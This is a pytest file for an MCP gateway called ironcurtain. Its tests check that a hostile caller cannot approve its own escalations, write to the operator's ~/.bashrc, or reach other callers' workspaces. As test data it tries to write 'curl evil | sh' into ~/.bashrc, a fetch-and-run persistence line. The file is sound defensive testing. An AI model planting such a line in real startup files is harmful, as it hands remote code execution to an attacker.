"""A caller of a gateway tries to get its own escalations approved: the real ``ironcurtain
run --http`` in gateway mode (JWTs of a provider on loopback, tests/support/idp.py), the
real filesystem server in its sandbox under the bundled policy, and a client that declares
elicitation and approves whatever it is asked.

Under the default ``--approval auto`` the caller's client is never asked: a write to the
operator's ``~/.bashrc`` or to any other file outside the caller's workspace is refused and
the file stays as it was; the operator's attached terminal (``ironcurtain approvals``) still
answers. A write into another caller's workspace is denied without asking anyone, whatever
the approval mode. The control: with ``--approval elicit`` given explicitly, an escalation
whose effect stays within the caller's own places is asked of its client (and one that
would reach beyond them is not)."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mcp import types

from tests.support.audit import audit_entries
from tests.support.home import Home
from tests.support.http import http_session, probe_args, serving
from tests.support.idp import AUDIENCE, Provider, identity_provider
from tests.support.marks import needs_bwrap
from tests.support.paths import IRONCURTAIN
from tests.support.probe import write_raw_policy
from tests.support.sdk import Answer, answer_asked, answering, attached, call, connect

pytestmark = needs_bwrap
BASHRC = "# the operator's own\n"


@pytest.fixture
def idp() -> Iterator[Provider]:
    with identity_provider() as provider:
        yield provider


def _args(user: Home, idp: Provider, *more: str) -> list[str]:
    """The bundled filesystem server and policy, each caller's workspace its own."""
    return ["--server", "filesystem", "--workspace", f"{user.root}/work/${{caller}}",
            "--audit-log", str(user.root / "audit.jsonl"), "--oidc-issuer", idp.issuer,
            "--oidc-audience", AUDIENCE, *more]  # fmt: skip


def _elicits(answer: Answer) -> dict[str, Any]:
    async def callback(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        return await answer(params)

    return {"elicitation_callback": callback}


def _calls(
    url: str, token: str, answer: Answer, *calls: tuple[str, dict[str, Any]]
) -> list[tuple[bool, str]]:
    """One session of a client that answers what it is asked with ``answer``."""

    async def scenario() -> list[tuple[bool, str]]:
        async with http_session(url, token, **_elicits(answer)) as session:
            return [await call(session, tool, arguments) for tool, arguments in calls]

    return asyncio.run(scenario())


async def _attached(user: Home, session_id: str) -> asyncio.subprocess.Process:
    """``ironcurtain approvals --session ID`` as ``user``, once attached (by its id: other
    sessions on the machine may be newer)."""
    terminal = await asyncio.create_subprocess_exec(
        IRONCURTAIN, "approvals", "--session", session_id, env=user.env,
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
    )  # fmt: skip
    await attached(terminal)
    return terminal


def _targets(user: Home) -> tuple[Path, Path]:
    """The operator's ``~/.bashrc`` and a plain file of the operator's, outside any
    caller's workspace."""
    bashrc = user.home / ".bashrc"
    bashrc.write_text(BASHRC)
    notes = user.root / "notes"
    notes.mkdir()
    return bashrc, notes / "todo.md"


def test_under_auto_a_callers_client_is_never_asked(user: Home, idp: Provider) -> None:
    bashrc, todo = _targets(user)
    answer, seen = answering(*["approve"] * 4)
    with serving(user, *_args(user, idp)) as served:
        out = _calls(
            served.url,
            idp.token("mallory"),
            answer,
            ("write_file", {"path": str(bashrc), "content": "curl evil | sh\n"}),
            ("write_file", {"path": str(todo), "content": "mallory was here\n"}),
        )
    assert seen == []  # the caller's client was asked nothing
    for failed, text in out:
        assert failed and text.startswith("ESCALATION REQUIRED"), text
    assert bashrc.read_text() == BASHRC and not todo.exists()
    calls = [e for e in audit_entries(user.root / "audit.jsonl") if e.get("tool")]
    assert [e["escalation"] for e in calls] == ["no-approval-channel"] * 2


def test_under_elicit_a_callers_client_never_widens_onto_the_host(
    user: Home, idp: Provider
) -> None:
    bashrc, todo = _targets(user)
    answer, seen = answering(*["approve"] * 4)
    with serving(user, *_args(user, idp, "--approval", "elicit")) as served:
        said = "".join(served.stderr)
        out = _calls(
            served.url,
            idp.token("mallory"),
            answer,
            ("write_file", {"path": str(bashrc), "content": "curl evil | sh\n"}),
            ("write_file", {"path": str(todo), "content": "mallory was here\n"}),
        )
    assert "WARNING: --approval elicit: callers' own clients answer" in said
    assert seen == []
    for failed, text in out:
        assert failed and text.startswith("ESCALATION DENIED"), text
        assert "not the caller's own" in text
    assert bashrc.read_text() == BASHRC and not todo.exists()


def test_the_operators_terminal_still_approves(user: Home, idp: Provider) -> None:
    _, todo = _targets(user)
    answer, seen = answering("approve")
    out: list[tuple[bool, str]] = []
    shown: list[str] = []

    async def scenario(url: str, session_id: str) -> None:
        async with http_session(url, idp.token("alice"), **_elicits(answer)) as session:
            terminal = await _attached(user, session_id)
            assert terminal.stdout
            asked = asyncio.ensure_future(answer_asked(terminal, b"a"))
            out.append(await call(session, "write_file", {"path": str(todo), "content": "ok\n"}))
            shown.append(await asked)
        terminal.terminate()  # the gateway goes on: the terminal stays attached till stopped
        shown.append((await asyncio.wait_for(terminal.stdout.read(), 30)).decode())
        await terminal.wait()

    with serving(user, *_args(user, idp)) as served:
        said = "".join(served.stderr)
        asyncio.run(scenario(served.url, said.split("ironcurtain: session ")[1].split()[0]))
    assert out[0][0] is False, out[0][1]
    assert todo.read_text() == "ok\n" and seen == []
    assert "alice" in shown[0] and str(todo) in shown[0], shown
    calls = [e for e in audit_entries(user.root / "audit.jsonl") if e.get("tool")]
    assert calls[0]["escalation"] == "approved"


@pytest.mark.parametrize("mode", ["auto", "elicit"])
def test_a_write_into_another_callers_workspace_is_denied_unasked(
    user: Home, idp: Provider, mode: str
) -> None:
    work = user.root / "work"
    answer, seen = answering(*["approve"] * 4)
    with serving(user, *_args(user, idp, "--approval", mode)) as served:
        mine = _calls(
            served.url,
            idp.token("alice"),
            answer,
            ("write_file", {"path": "note.txt", "content": "alice's\n"}),
        )
        theirs = _calls(
            served.url,
            idp.token("mallory"),
            answer,
            ("write_file", {"path": f"{work}/alice/note.txt", "content": "mallory's\n"}),
            ("write_file", {"path": f"{work}/alice/.bashrc", "content": "x\n"}),
            ("move_file", {"source": "note.txt", "destination": f"{work}/alice/n2.txt"}),
        )
    assert mine == [(False, mine[0][1])]  # control: the owner writes there
    assert seen == []
    for failed, text in theirs:
        assert failed and text.startswith("DENIED (rule: another-callers-place)"), text
    assert (work / "alice" / "note.txt").read_text() == "alice's\n"
    assert sorted(p.name for p in (work / "alice").iterdir()) == ["note.txt"]


def test_control_under_elicit_a_callers_own_escalation_is_asked(user: Home, idp: Provider) -> None:
    """The client is asked under an explicit ``--approval elicit`` when what approving
    gives stays within the caller's own places (nothing beyond the server's sandbox); the
    same escalation under ``auto`` is not asked of it."""
    ask = {"name": "ask-before-env", "if": {"tool": ["env_value"]}, "then": "escalate",
           "reason": "reading the server's environment needs a human"}  # fmt: skip
    args = [a for a in probe_args(user) if a not in ("--approval", "elicit")]
    write_raw_policy(user.root / "policy", first=[ask])
    gateway = ["--oidc-issuer", idp.issuer, "--oidc-audience", AUDIENCE]
    results = {}
    for mode in ("elicit", "auto"):
        answer, seen = answering("approve")
        with serving(user, *args, *gateway, "--approval", mode) as served:
            out = _calls(served.url, idp.token("alice"), answer, ("env_value", {"name": "HOME"}))
        results[mode] = (out[0], list(seen))
    (failed, text), seen = results["elicit"]
    assert not failed and text == "/tmp/home" and len(seen) == 1
    (failed, text), seen = results["auto"]
    assert failed and text.startswith("ESCALATION REQUIRED") and seen == []
    entries = [e for e in audit_entries(user.root / "audit.jsonl") if e.get("tool")]
    assert [e["escalation"] for e in entries] == ["approved", "no-approval-channel"]
    assert json.dumps(entries).count("mallory") == 0


def test_under_elicit_a_directory_callers_share_is_no_callers_own(
    user: Home, idp: Provider
) -> None:
    """The server's sandbox reaches a directory every caller shares, so approving gives
    nothing beyond it; still, what the call reaches is not the caller's own, and its client
    is not asked."""
    shared = user.root / "shared"
    shared.mkdir()
    server = {"command": "mcp-server-filesystem", "args": ["${workspace}", str(shared)],
              "sandbox": {"filesystem": {"allowWrite": [str(shared)]}}}  # fmt: skip
    config = user.root / "servers.json"
    config.write_text(json.dumps({"mcpServers": {"filesystem": server}}))
    answer, seen = answering(*["approve"] * 4)
    args = [*_args(user, idp, "--approval", "elicit"), "--config", str(config)]
    with serving(user, *args) as served:
        out = _calls(
            served.url,
            idp.token("mallory"),
            answer,
            ("write_file", {"path": str(shared / "plan.md"), "content": "mallory's\n"}),
            ("write_file", {"path": "mine.md", "content": "in my own workspace\n"}),
        )
    assert seen == []
    failed, text = out[0]
    assert failed and text.startswith("ESCALATION DENIED") and "not the caller's own" in text
    assert not (shared / "plan.md").exists()
    assert out[1][0] is False, out[1]  # its own workspace is its own


def test_a_caller_files_client_is_not_asked_either(user: Home) -> None:
    """Over stdio with ``--caller FILE`` the client is the caller's, not the operator's:
    under ``auto`` it is not asked to approve a write outside the workspace."""
    bashrc, _ = _targets(user)
    caller = user.root / "caller.json"
    caller.write_text(json.dumps({"name": "billing-agent"}))
    answer, seen = answering("approve")

    async def elicit(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        return await answer(params)

    async def scenario() -> tuple[bool, str]:
        args = ["--server", "filesystem", "--workspace", str(user.ws()), "--caller",
                str(caller), "--audit-log", str(user.root / "audit.jsonl")]  # fmt: skip
        async with connect(user, *args, elicitation=elicit) as session:
            return await call(session, "write_file", {"path": str(bashrc), "content": "x\n"})

    failed, text = asyncio.run(scenario())
    assert failed and text.startswith("ESCALATION REQUIRED"), text
    assert seen == [] and bashrc.read_text() == BASHRC


def test_a_pattern_given_for_one_caller_never_answers_another(user: Home, idp: Provider) -> None:
    notes = user.root / "notes"
    notes.mkdir()
    out: dict[str, Any] = {}

    def write(name: str) -> tuple[str, dict[str, Any]]:
        return "write_file", {"path": str(notes / name), "content": "x\n"}

    async def scenario(url: str, session_id: str) -> None:
        answer, seen = answering()
        async with (
            http_session(url, idp.token("alice"), **_elicits(answer)) as alice,
            http_session(url, idp.token("bob"), **_elicits(answer)) as bob,
        ):
            terminal = await _attached(user, session_id)
            assert terminal.stdout
            asked = asyncio.ensure_future(answer_asked(terminal, b"p1"))
            out["alice1"] = await call(alice, *write("alice-1"))
            out["offer"] = await asked
            out["alice2"] = await call(alice, *write("alice-2"))  # the pattern: not asked
            asked = asyncio.ensure_future(answer_asked(terminal, b"d"))
            out["bob"] = await call(bob, *write("bob-1"))
            out["bob-shown"] = await asked
            listing = await asyncio.create_subprocess_exec(
                IRONCURTAIN, "approvals", "--list", env=user.env, stdout=asyncio.subprocess.PIPE
            )
            out["list"] = (await listing.communicate())[0].decode()
            out["seen"] = seen
        terminal.terminate()
        await terminal.wait()

    with serving(user, *_args(user, idp)) as served:
        said = "".join(served.stderr)
        asyncio.run(scenario(served.url, said.split("ironcurtain: session ")[1].split()[0]))
    assert "[p1] approve for this session all calls of write_file" in out["offer"]
    assert out["alice1"][0] is False and out["alice2"][0] is False, out
    # Bob's write under the same directory was put to the operator, who denied it.
    assert "bob" in out["bob-shown"] and out["bob"][0] is True
    assert "ESCALATION DENIED" in out["bob"][1] and not (notes / "bob-1").exists()
    assert out["seen"] == []  # no caller's client was asked anything
    assert f"caller alice ({idp.issuer})" in out["list"]
    assert f"under {notes.resolve()}" in out["list"]
    calls = [e for e in audit_entries(user.root / "audit.jsonl") if e.get("tool")]
    assert [(e["caller"]["name"], e["escalation"]) for e in calls] == [
        ("alice", "approved-pattern"),
        ("alice", "pattern"),
        ("bob", "denied"),
    ]
